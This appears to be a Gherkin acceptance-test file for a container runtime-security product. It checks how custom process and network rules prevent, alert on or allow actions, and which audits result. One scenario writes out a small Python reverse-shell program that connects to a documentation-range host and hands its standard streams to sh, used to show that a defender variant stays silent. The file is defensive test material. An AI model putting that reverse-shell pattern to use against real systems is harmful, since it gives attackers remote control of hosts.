@runtime-custom @needs:processes @needs:network
Feature: Custom rules of the runtime policy
  A rule of the runtime policy may attach custom rules: expressions on what a process is and does. They are asked before the
  lists, from top to bottom, and the first that holds decides.

  Background:
    Given the task definition "web-and-worker"

  Rule: The first custom rule that holds decides, and what the lists say is not asked

    @process-070 @P22 @extended
    Scenario: A custom rule prevents what the allow list has
      Given the custom rule 101 "no directories" of type "processes", with message "nobody makes directories":
        """
        proc.name = "mkdir"
        """
      And the runtime rule "our programs" for container "worker":
        | section   | effect  | allowed      |
        | processes | prevent | mkdir, actor |
      And the runtime rule "our programs" attaches custom rule 101 with "prevent"
      And the protected task is running
      When container "worker" runs "mkdir /tmp/$TOKEN"
      Then the program never ran
      And "/tmp/$TOKEN" does not exist in container "worker"
      And exactly one audit tells of it:
        | type        | processes                |
        | attackType  | customRule               |
        | effect      | prevent                  |
        | ruleName    | our programs             |
        | msg         | nobody makes directories |
        | processPath | /usr/bin/mkdir           |

    @process-071 @P22 @extended
    Scenario Outline: A custom rule with <effect> on what the deny list has
      Given the custom rule 101 "directories" of type "processes", with message "a directory is made":
        """
        proc.path startswith "/usr/bin/" and proc.name in ("mkdir", "rmdir") and proc.user = "root"
        """
      And the runtime rule "our programs" for container "worker":
        | section   | effect  | denied |
        | processes | prevent | mkdir  |
      And the runtime rule "our programs" attaches custom rule 101 with "<effect>"
      And the protected task is running
      When container "worker" runs "mkdir /tmp/$TOKEN"
      Then <outcome>
      And <number> audits tell of it

      Examples:
        | effect  | outcome                           | number |
        | allow   | the program ran and exited with 0 | 0      |
        | alert   | the program ran and exited with 0 | 1      |
        | disable | the program never ran             | 1      |

    @process-072 @P22 @extended
    Scenario Outline: Two custom rules hold, <first> above <second>
      Given the custom rule 101 "one" of type "processes", with message "one":
        """
        proc.name = "mkdir"
        """
      And the custom rule 102 "two" of type "processes", with message "two":
        """
        proc.name contains /^mk/
        """
      And the custom rule 103 "another" of type "processes", with message "another":
        """
        proc.name = "rmdir"
        """
      And the runtime rule "our programs" for container "worker":
        | section   | effect  | denied |
        | processes | disable |        |
      And the runtime rule "our programs" attaches custom rule 103 with "prevent"
      And the runtime rule "our programs" attaches custom rule 101 with "<first>"
      And the runtime rule "our programs" attaches custom rule 102 with "<second>"
      And the protected task is running
      When container "worker" runs "mkdir /tmp/$TOKEN"
      Then <outcome>
      And exactly one audit tells of it:
        | attackType | customRule |
        | effect     | <first>    |
        | msg        | one        |

      Examples:
        | first   | second  | outcome                           |
        | prevent | allow   | the program never ran             |
        | alert   | prevent | the program ran and exited with 0 |

    @process-073 @P22 @extended
    Scenario: Where no custom rule holds, the lists decide
      Given the custom rule 101 "of another parent" of type "processes", with message "of another parent":
        """
        proc.pname = "nginx" and proc.name = "mkdir"
        """
      And the runtime rule "our programs" for container "worker":
        | section   | effect  | denied |
        | processes | prevent | mkdir  |
      And the runtime rule "our programs" attaches custom rule 101 with "allow"
      And the protected task is running
      When container "worker" runs "mkdir /tmp/$TOKEN"
      Then the program never ran
      And exactly one audit tells of it:
        | attackType | explicitlyDeniedProcess |
        | effect     | prevent                 |

  Rule: A command line can be told of, and saves nothing that the lists prevent

    @process-074 @P22 @P23 @extended
    Scenario Outline: A custom rule on the command line, with <effect>, while the deny list has <denied>
      Given the custom rule 101 "temporary" of type "processes", with message "something temporary":
        """
        proc.cmdline contains "/tmp/"
        """
      And the runtime rule "our programs" for container "worker":
        | section   | effect  | denied   |
        | processes | prevent | <denied> |
      And the runtime rule "our programs" attaches custom rule 101 with "<effect>"
      And the protected task is running
      When container "worker" runs "mkdir /tmp/$TOKEN"
      Then <outcome>
      And exactly one audit tells of it:
        | attackType | <attack> |
        | effect     | <told>   |

      Examples:
        | effect | denied | outcome                           | attack                  | told    |
        | alert  | rmdir  | the program ran and exited with 0 | customRule              | alert   |
        | allow  | mkdir  | the program never ran             | explicitlyDeniedProcess | prevent |

    @process-075 @P23 @extended
    Scenario Outline: A custom rule of type <type> is attached with <effect>
      Given the custom rule 101 "a rule" of type "<type>", with message "m":
        """
        <script>
        """
      And the runtime rule "our programs" for container "worker":
        | section   | effect  | denied |
        | processes | prevent | mkdir  |
      When the runtime policy is put with custom rule 101 attached with "<effect>"
      Then the Console answers 400 with an error about "<words>"
      And the runtime policy is unchanged

      Examples:
        | type             | effect  | script                                                | words                                  |
        | processes        | prevent | proc.name = "curl" and proc.cmdline contains "-k"     | looks at proc.cmdline                  |
        | network-outgoing | prevent | proc.cmdline contains "-k"                            | looks at proc.cmdline                  |
        | kubernetes-audit | alert   | verb = "create"                                       | is of type kubernetes-audit            |
        | waas-request     | alert   | req.path = "/"                                        | is of type waas-request                |

  Rule: Names and addresses have custom rules of their own

    @process-076 @P22 @D1 @extended
    Scenario: A name that a custom rule prevents, although the list allows it
      Given the name "mirror.example.com" resolves to "198.51.100.82"
      And the custom rule 101 "no mirrors" of type "network-outgoing", with message "no mirrors are asked":
        """
        net.domain startswith "mirror." and proc.name = "actor"
        """
      And the runtime rule "our names" for container "worker":
        | section | effect  | allowed       |
        | dns     | prevent | *.example.com |
      And the runtime rule "our names" attaches custom rule 101 with "prevent"
      And the protected task is running
      When container "worker" looks up "mirror.example.com" with raw UDP
      Then the lookup fails within 1000 milliseconds
      And the resolver was never asked for "mirror.example.com"
      And exactly one audit tells of it:
        | type       | network              |
        | attackType | customRule           |
        | effect     | prevent              |
        | domain     | mirror.example.com   |
        | msg        | no mirrors are asked |

    @process-077 @P22 @D3 @extended
    Scenario: A name that a custom rule allows, although the list does not
      Given the name "evil.test" resolves to "198.51.100.66"
      And the custom rule 101 "one of theirs" of type "network-outgoing", with message "m":
        """
        net.domain = "evil.test"
        """
      And the runtime rule "our names" for container "worker":
        | section | effect  | allowed       |
        | dns     | prevent | *.example.com |
      And the runtime rule "our names" attaches custom rule 101 with "allow"
      And the protected task is running
      When container "worker" looks up "evil.test" with raw sendto
      Then the name resolves to "198.51.100.66"
      And no audit tells of it

    @process-078 @P22 @D15 @extended
    Scenario: An address that a custom rule prevents, without any list
      Given an internet host answers at "198.51.100.66" port 80
      And the custom rule 101 "no web" of type "network-outgoing", with message "no web from here":
        """
        net.outgoing_ip in "198.51.100.0/24" and net.outgoing_port in (80, 443)
        """
      And the runtime rule "our peers" for container "worker":
        | section | effect  | denied |
        | network | disable |        |
      And the runtime rule "our peers" attaches custom rule 101 with "prevent"
      And the protected task is running
      When container "worker" connects to "198.51.100.66" port 80
      Then the connection is refused
      And 0 connections of the task reached "198.51.100.66" port 80
      And exactly one audit tells of it:
        | type       | network          |
        | attackType | customRule       |
        | effect     | prevent          |
        | ip         | 198.51.100.66    |
        | port       | 80               |
        | msg        | no web from here |

  Rule: What App-Embedded Defenders do not detect stays silent

    @process-079 @P21 @extended
    Scenario Outline: <what>
      Given the runtime rule "everything on" for container "worker":
        | section   | effect | denied    | option                                                     |
        | processes | alert  | no-such   | checkLateralMovement, checkParentChild, checkSuidBinaries  |
        | network   | alert  | 192.0.2.9 | detectPortScan                                             |
      And an internet host answers at "198.51.100.66" port 80
      And the protected task is running
      And container "worker" has the program "/tmp/back":
        """
        #!/usr/bin/python3
        import os, socket
        peer = socket.create_connection(("198.51.100.66", 80), 5)
        for number in 0, 1, 2:
            os.dup2(peer.fileno(), number)
        os.execvp("sh", ["sh", "-c", "exit 7"])
        """
      When container "worker" runs "<command>"
      Then the program ran and exited with <code>
      And no audit tells of it

      Examples:
        | what               | command                  | code |
        | a reverse shell    | /tmp/back                | 7    |
        | a setuid program   | mount -V                 | 0    |
        | a child of a shell | sh -c 'whoami; exit 3'   | 3    |

  Rule: A custom rule that says nothing of its own holds all the same

    @process-080 @P22 @D1 @extended
    Scenario: Without a message
      Given the custom rule 101 "no directories" of type "processes", with message "":
        """
        proc.name = "mkdir"
        """
      And the custom rule 102 "no mirrors" of type "network-outgoing", with message "":
        """
        net.domain startswith "mirror."
        """
      And the name "mirror.example.com" resolves to "198.51.100.82"
      And the runtime rule "our programs" for container "worker":
        | section   | effect  | denied |
        | processes | disable |        |
        | dns       | disable |        |
      And the runtime rule "our programs" attaches custom rule 101 with "prevent"
      And the runtime rule "our programs" attaches custom rule 102 with "prevent"
      And the protected task is running
      When container "worker" runs "mkdir /tmp/$TOKEN"
      Then the program never ran
      And exactly one audit tells of it:
        | attackType | customRule   |
        | effect     | prevent      |
        | ruleName   | our programs |
      When container "worker" looks up "mirror.example.com" with python
      Then the lookup fails within 1000 milliseconds
      And the resolver was never asked for "mirror.example.com"
      And exactly one audit tells of it:
        | attackType | customRule         |
        | effect     | prevent            |
        | domain     | mirror.example.com |
